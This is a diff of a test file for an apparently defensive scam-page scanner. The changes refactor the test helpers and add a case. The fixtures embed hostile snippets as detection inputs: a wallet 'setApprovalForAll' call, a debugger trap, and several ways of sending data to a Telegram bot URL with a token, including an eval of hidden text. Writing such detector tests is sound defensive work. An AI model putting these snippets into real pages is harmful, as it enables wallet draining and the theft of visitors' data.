@@ -6,14 +6,19 @@ from urllib.parse import quote
 import pytest
 
 from scamtriage.parse.html.page import read_page
+from scamtriage.records.facts import PageFacts
 from tests.cost import least_cpu_s
 
 CALL = "nft.setApprovalForAll(op,true)"
 SCRIPT = f"<script>{CALL}</script>"
 
 
+def read(source: str, kind: str = "text/html") -> PageFacts:
+    return read_page(body=source.encode(), content_type=kind, url="https://a.test/", host="a.test", suffix="test")[0]
+
+
 def calls(source: str, kind: str = "text/html") -> tuple[str, ...]:
-    return read_page(body=source.encode(), content_type=kind, url="https://a.test/", host="a.test", suffix="test")[0].wallet_calls
+    return read(source, kind).wallet_calls
 
 
 @pytest.mark.parametrize(
@@ -108,7 +113,7 @@ TRAP = "setInterval(function(){debugger},100)"
 )
 def test_a_trap_that_is_only_shown_is_no_deed_of_the_page(shown: str) -> None:
     def deeds(source: str) -> tuple[str, ...]:
-        return read_page(body=source.encode(), content_type="text/html", url="https://a.test/", host="a.test", suffix="test")[0].behaviours
+        return read(source).behaviours
 
     assert deeds(shown) == ()
     assert deeds(shown + f"<script type=text/javascript>{TRAP}</script>") == ("debugger-timer",)
@@ -119,10 +124,6 @@ SETTING, SAID = (
     '{"withdrawal_locked": 1}',
     "Don't pay any tax before withdrawal! \"60秒合约\" is how they say it, 'tax before withdrawals' too.",
 )
-
-
-def settings(source: str) -> tuple[str, ...]:
-    return read_page(body=source.encode(), content_type="text/html", url="https://a.test/", host="a.test", suffix="test")[0].behaviours
 
 
 @pytest.mark.parametrize(
@@ -139,7 +140,7 @@ def settings(source: str) -> tuple[str, ...]:
     ],
 )
 def test_settings_stand_in_what_programs_hold(source: str) -> None:
-    assert {"withdrawal-locked", "seconds-contracts"} & {*settings(f"<!doctype html>{source}")}
+    assert {"withdrawal-locked", "seconds-contracts"} & {*read(f"<!doctype html>{source}").behaviours}
 
 
 @pytest.mark.parametrize(
@@ -147,14 +148,10 @@ def test_settings_stand_in_what_programs_hold(source: str) -> None:
 )
 def test_words_that_visitors_read_are_no_settings_of_scripts(source: str) -> None:
     """An apostrophe before them made a bank's warning the settings of an exchange."""
-    assert settings(f"<!doctype html>{source}") == ()
+    assert read(f"<!doctype html>{source}").behaviours == ()
 
 
 BOT = "https://api.telegram.org/bot110201543:AAHdqTcvCH1vGWJxfSeofSAs0K5PALDsaw0/sendMessage"
-
-
-def sends_to(source: str) -> tuple[str, ...]:
-    return read_page(body=source.encode(), content_type="text/html", url="https://a.test/", host="a.test", suffix="test")[0].exfil
 
 
 @pytest.mark.parametrize(
@@ -166,15 +163,16 @@ def sends_to(source: str) -> tuple[str, ...]:
         f"<button onclick=\"post('{BOT}')\">",
         f"<? $url = '{BOT}'; ?>",
         f"<?php if ($a->b) $url = '{BOT}'; ?>",
+        f"<div hidden id=s>fetch('{BOT}')</div><p>Log in.</p><script>eval(s.textContent)</script>",
         f"<script>document.write(\"<form action='{BOT}'></form>\")</script>",
         f"<iframe srcdoc='{escape(f'<script>fetch({BOT!r})</script>')}'></iframe>",
     ],
 )
 def test_a_bot_to_which_a_page_can_send_is_found(source: str) -> None:
-    assert sends_to(f"<!doctype html>{source}") == ("telegram-bot",)
+    assert read(f"<!doctype html>{source}").exfil == ("telegram-bot",)
 
 
 @pytest.mark.parametrize("tag", ["pre", "p", "code", "textarea"])
 def test_a_bot_that_is_only_shown_gets_nothing(tag: str) -> None:
     """A lesson with a place for comments was accused of sending its readers' passwords there."""
-    assert sends_to(f"<!doctype html><{tag}>fetch('{BOT}')</{tag}>") == ()
+    assert read(f"<!doctype html><{tag}>fetch('{BOT}')</{tag}>").exfil == ()
